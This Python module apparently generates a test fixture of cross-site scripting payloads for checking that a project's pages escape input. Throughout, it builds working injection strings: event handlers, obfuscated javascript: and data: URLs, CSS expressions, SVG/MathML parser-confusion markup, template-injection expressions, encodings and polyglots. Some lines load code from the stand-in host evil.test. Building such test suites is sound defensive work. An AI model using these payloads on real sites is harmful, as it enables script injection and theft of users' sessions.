"""Write ``payloads.json``: text that runs scripts in pages that do not escape it.

    python -m tests.security.make_payloads

The payloads use publicly known techniques of the HTML, URL, CSS and SVG standards. Each group is
for one part of the standards. Each payload calls ``hit()``. The file ``payloads.json`` is in the
repository, so that the diff of a commit shows which payloads change with this module.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

PATH = Path(__file__).with_name("payloads.json")
RUN = "hit()"

EVENTS = """load error click focus blur mouseover mouseenter pointerover pointerdown toggle beforetoggle
    animationstart animationend transitionend begin end scroll wheel copy paste input change invalid
    submit reset keydown drag drop contextmenu play canplay loadstart resize hashchange message
    popstate pageshow auxclick securitypolicyviolation cuechange slotchange""".split()
TAGS = """img body div svg video audio input textarea select details dialog marquee object embed form
    a p math table td button label canvas custom-x style iframe frameset link meta base""".split()
SCHEMES = ["javascript", "vbscript", "livescript", "data", "feed:javascript", "view-source:javascript",
           "jar:javascript", "filesystem:javascript", "about", "mhtml", "mocha", "wyciwyg", "res"]
#: Characters that URL parsers ignore in or before a scheme.
IGNORED = ["\t", "\n", "\r", "\r\n", "\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1f", " ", "\x7f",
            "\x85", "\xa0", "\xad", "\u1680", "\u2000", "\u200b", "\u200d", "\u2028", "\u2029",
            "\u202e", "\u2060", "\u3000", "\ufeff"]  # fmt: skip
BREAKS = ['"', "'", "`", ">", '">', "'>", "-->", "--!>", "]]>", "*/", "</textarea>", "</title>",
          "</style>", "</script>", "</noscript>", "</select>", "</option>", "</template>", "</svg>",
          "</math>", "</xmp>", "</iframe>", "\\\"", "\\'", "\x00\">", "\n\">"]  # fmt: skip
BODIES = [f"<img src=x onerror={RUN}>", f"<script>{RUN}</script>", f" autofocus onfocus={RUN} x=",
          f"<svg/onload={RUN}>", f";{RUN};//"]  # fmt: skip


def handlers() -> Iterator[str]:
    """Attributes that run scripts, on many elements."""
    for number, event in enumerate(EVENTS):
        tag = TAGS[number % len(TAGS)]
        yield f"<{tag} on{event}={RUN}>"
        yield f'<{TAGS[(number * 7 + 3) % len(TAGS)]} tabindex=1 style="animation:x" ON{event.upper()}="{RUN}">x'
    for tag in TAGS:
        yield f"<{tag} src=x: onerror={RUN} onload={RUN} autofocus onfocus={RUN}>"
    for between in ("/", "//", "\t", "\n", "\x0c", "/x/", " x='>' ", "\x00", "/*/"):
        yield f"<svg{between}onload={RUN}>"
        yield f"<img{between}src=x{between}onerror={RUN}{between}>"


def scripts() -> Iterator[str]:
    """Script elements in spellings that tokenizers accept."""
    for open_tag in ("<script>", "<SCRIPT>", "<ScRiPt >", "<script/x>", "<script\t>", "<script\n>",
                     "<script src=data:,hit()>", "<script type=module>", "<script x='>'>", "<<script>",
                     "<script charset=utf-7>", "<scr\x00ipt>", "<script\x00>", "<svg><script>",
                     "<svg:script>", "<math><script>", "<script type=text/ecmascript>", "<script language=x>",
                     "<xml:script>", "<script xmlns='http://www.w3.org/1999/xhtml'>", "<ſcript>"):
        yield f"{open_tag}{RUN}</script>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<!--><script>{RUN}</script>-->"
    yield f"<!--<!--><script>{RUN}</script>"
    yield f"<![CDATA[<script>{RUN}</script>]]>"
    yield f"<?xml version='1.0'?><script>{RUN}</script>"
    yield f"<!doctype html [<!entity x '<script>{RUN}</script>'>]>&x;"
    yield f"<script>{RUN}"
    yield f"<script src=//evil.test/{RUN}></script>"
    yield "<script src='data:text/javascript;base64,aGl0KCk='></script>"
    yield f"<template><script>{RUN}</script></template>"
    yield f"<noscript><p title='</noscript><script>{RUN}</script>'>"
    yield f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>"
    yield f"<iframe src='javascript:parent.{RUN}'></iframe>"
    yield f"<object data='data:text/html,<script>{RUN}</script>'></object>"
    yield f"<embed src='javascript:{RUN}'>"
    yield f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>"
    yield f"<base href='javascript:{RUN}//'>"
    yield f"<link rel=stylesheet href='javascript:{RUN}'>"
    yield f"<link rel=import href='data:text/html,<script>{RUN}</script>'>"
    yield f"<form action='javascript:{RUN}'><button>x"
    yield f"<button formaction='javascript:{RUN}'>x"
    yield f"<isindex action='javascript:{RUN}' type=submit>"
    yield f"<body background='javascript:{RUN}'>"
    yield f"<a href='javascript:{RUN}'>x</a>"
    yield f"<area shape=default href='javascript:{RUN}'>"
    yield "<portal src='javascript:hit()'></portal>"


def urls() -> Iterator[str]:
    """URLs that run scripts, in spellings that parsers accept."""
    for scheme in SCHEMES:
        yield f"{scheme}:{RUN}"
        yield f"{scheme.upper()}:{RUN}"
        yield f"  {scheme.title()} :{RUN}"
    for ignored in IGNORED:
        yield f"{ignored}javascript:{RUN}"
        yield f"java{ignored}script:{RUN}"
        yield f"javascript{ignored}:{RUN}"
    for text in ("JaVaScRiPt", "javascript&colon;", "&#106;avascript", "&#x6A;avascript", "jav&#x09;ascript",
                 "jav&Tab;ascript", "%6Aavascript", "\\u006Aavascript", "\\x6Aavascript", "java\\\nscript",
                 "ｊavascript", "ȷavascript", "javaѕcript", "javascript：", "javascrıpt", "javaſcript"):
        yield f"{text}:{RUN}"
    for tail in (f"//%0A{RUN}", f"/*x*/{RUN}", f"void({RUN})", f"//evil.test/%0d%0a{RUN}",
                 f"'<script>{RUN}</script>'", "%68it()", "\\u0068it()", "hit``", "eval('h'+'it()')",
                 "setTimeout('hit()')", "with(self)hit()", "new Function`hit\\x28\\x29```"):
        yield f"javascript:{tail}"
    for kind in ("text/html", "image/svg+xml", "text/xml", "application/xhtml+xml", "application/javascript",
                 "text/javascript", "", "text/html;charset=utf-7", "TEXT/HTML", "text/html;base64",
                 "image/svg+xml;utf8", "multipart/x-mixed-replace", "application/xml", "text/css",
                 "image/png+xml", "image/svg", "image/pngx", "x/image/png"):
        body = "PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==" if "base64" in kind else f"<script>{RUN}</script>"
        yield f"data:{kind},{body}"
    yield from ("blob:null/hit()", "ws://evil.test/hit()", "//evil.test/hit().js", "\\\\evil.test\\hit()",
                "/\\evil.test/hit()", "http:javascript:hit()", "https://javascript:hit()@evil.test",
                "/\t/evil.test/hit()", "?javascript:hit()", "#javascript:hit()", "x:javascript:hit()")


def breaks() -> Iterator[str]:
    """Text that ends its context and starts an element."""
    for end in BREAKS:
        for body in BODIES:
            yield end + body


def styles() -> Iterator[str]:
    """CSS that runs scripts or loads files, in old or new browsers."""
    for value in (f"expression({RUN})", f"url(javascript:{RUN})", f"url('javascript:{RUN}')",
                  f"url(data:text/html,<script>{RUN}</script>)", f"ex/**/pression({RUN})",
                  f"\\65xpression({RUN})", f"e\\xpression({RUN})", f"image(javascript:{RUN})",
                  "var(--x)", f"url(vbscript:{RUN})", "attr(onload)", "url(//evil.test/hit)"):
        yield f"width:{value}"
        yield f"background-image: {value};"
        yield f"x{{}}*{{color:{value}}}"
    yield from ("behavior:url(#default#time2)", "behavior: url(data:text/x-component,hit())",
                "-moz-binding:url(data:text/xml,hit())", "@import 'javascript:hit()';",
                "@import url(//evil.test/hit.css);", "}</style><script>hit()</script>",
                "position:fixed;inset:0;z-index:9999;content:'</style><svg/onload=hit()>'",
                "<!--@import'javascript:hit()'-->", "color:red;}body{background:url(javascript:hit())",
                "animation:x 1s;-o-link:'javascript:hit()';-o-link-source:current",
                "@charset 'utf-7';+ADwAcwBjAHIAaQBwAHQAPg-hit()", "@font-face{src:url(javascript:hit())}")


def namespaces() -> Iterator[str]:
    """Payloads in SVG and MathML, and markup that different parsers interpret differently."""
    for name in ("animate", "set", "animateTransform", "animateMotion", "discard"):
        for attribute in ("href", "xlink:href", "onclick"):
            yield (f"<svg><a><{name} attributeName={attribute} values=javascript:{RUN} "
                   f"to=javascript:{RUN} begin=0s fill=freeze /><text y=9>x</text></a></svg>")
    for inner in (f"<use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/>",
                  f"<image href='javascript:{RUN}'/>", f"<foreignObject><img src=x onerror={RUN}></foreignObject>",
                  f"<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{RUN}</handler>",
                  f"<a xlink:href='javascript:{RUN}'><rect width=9 height=9 /></a>", f"<title><img src=x onerror={RUN}>",
                  f"<style><img src=x onerror={RUN}></style>", f"<desc><img src=x onerror={RUN}>",
                  f"<feImage href='javascript:{RUN}'/>", f"<script href='data:,{RUN}'/>",
                  f"<p><style><a id='</style><img src=x onerror={RUN}>'>", f"</p><style><g title='</style><img src onerror={RUN}>'>"):
        yield f"<svg>{inner}</svg>"
    for inner in (f"<mtext><img src=x onerror={RUN}></mtext>", f"<maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction>",
                  f"<annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml>",
                  f"<mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
                  f"<mi href='javascript:{RUN}'>x</mi>", f"<mglyph><svg><mtext><style><path id='</style><img src=x onerror={RUN}>'>"):
        yield f"<math>{inner}</math>"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>"
    yield f"<table><a href=x><form><svg/onload={RUN}></table>"
    yield f"<select><noembed></select><script>{RUN}</script>"
    yield f"<xmp><p title='</xmp><svg/onload={RUN}>'>"


def templates() -> Iterator[str]:
    """Payloads that are expressions of template languages."""
    for left, right in (("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("{%", "%}"), ("[[", "]]"),
                        ("{{{", "}}}"), ("@{", "}"), ("{#", "#}"), ("*{", "}")):
        for body in (RUN, "constructor.constructor('hit()')()", "''.__class__.__mro__"):
            yield f"{left}{body}{right}"


def encodings() -> Iterator[str]:
    """Payloads in other encodings."""
    plain = f"<script>{RUN}</script>"
    yield "+ADw-script+AD4-hit()+ADw-/script+AD4-"
    yield plain.replace("<", "&lt;").replace(">", "&gt;")
    yield "".join(f"&#{ord(c)};" for c in plain)
    yield "".join(f"&#{ord(c):07d}" for c in plain)
    yield "".join(f"&#x{ord(c):x};" for c in plain)
    yield "".join(f"%{ord(c):02x}" for c in plain)
    yield "".join(f"%25{ord(c):02x}" for c in plain)
    yield "".join(f"\\u{ord(c):04x}" for c in plain)
    yield "".join(f"\\x{ord(c):02x}" for c in plain)
    yield "".join(f"\\{ord(c):o}" for c in plain)
    yield plain.encode("utf-16-le").decode("latin-1")
    yield plain.replace("<", "\uff1c").replace(">", "\uff1e")
    yield plain.replace("<", "\u2039").replace(">", "\u203a")
    yield plain.replace("<", "\xc0\xbc").replace(">", "\xc0\xbe")
    yield plain.replace("<", "\x1b$B!c").replace(">", "\x1b(B>")
    yield "\x0e" + plain + "\x0f"
    yield "\ufeff" + plain
    yield plain.replace("s", "\u017f")
    yield plain.replace("script", "\u202escript\u202c")
    yield "\ud800" + plain
    yield plain + "\udfff"


def names() -> Iterator[str]:
    """Payloads that are names of members which scripts use on objects and elements."""
    yield from """__proto__ constructor prototype hasOwnProperty toString valueOf then default hit alert document
        window location self top parent frames cookie body head forms images createElement createTextNode
        createElementNS querySelector getElementById activeElement documentElement defaultView attributes
        children childNodes firstChild lastChild nextSibling previousSibling parentNode parentElement
        localName nodeName namespaceURI remove replaceChildren insertBefore moveBefore append appendChild
        isConnected getAttribute setAttribute removeAttribute hasAttribute toggleAttribute dataset closest
        matches addEventListener dispatchEvent $id $events $widget style className classList hidden
        innerHTML outerHTML focus submit reset action method target elements length ownerDocument""".split()
    yield from ("__proto__[hit]", "constructor[prototype][hit]", "a.__proto__.b", "on", "onclick", "srcdoc",
                ".value", "$", "@", "hit()", "a onclick=hit()", "xmlns", "xml:base", "xlink:href")


def together() -> Iterator[str]:
    """Payloads that work in several contexts."""
    yield f"\"'`><img src=x onerror={RUN}><!--*/{RUN}//]]></title></textarea></style></script>"
    yield f"javascript:/*\"'`--></title></style></textarea></script><svg/onload='{RUN}'//*/{RUN}"
    yield f"'\"><svg onload={RUN}>{{{{{RUN}}}}}${{{RUN}}}<%={RUN}%>"
    yield f"\";{RUN};'-{RUN}-'`${{{RUN}}}`//\n--><script>{RUN}</script>"
    yield f"data:text/html,\"><script>{RUN}</script>' onload={RUN} x='"
    yield f"<a href=\"javascript:{RUN}\" onclick={RUN} style=\"x:expression({RUN})\">{{{{{RUN}}}}}</a>"
    yield "A" * 5000 + f"<script>{RUN}</script>"
    yield f"<b>{'<i>' * 300}<script>{RUN}</script>"


def payloads() -> list[str]:
    """All payloads, without duplicates, in a fixed order."""
    groups = (handlers, scripts, urls, breaks, styles, namespaces, templates, encodings, names, together)
    return list(dict.fromkeys(text for group in groups for text in group()))


def main() -> None:
    """Write ``payloads.json``."""
    lines = ",\n".join(json.dumps(text) for text in payloads())
    PATH.write_text(f"[\n{lines}\n]\n", encoding="ascii")


if __name__ == "__main__":
    main()
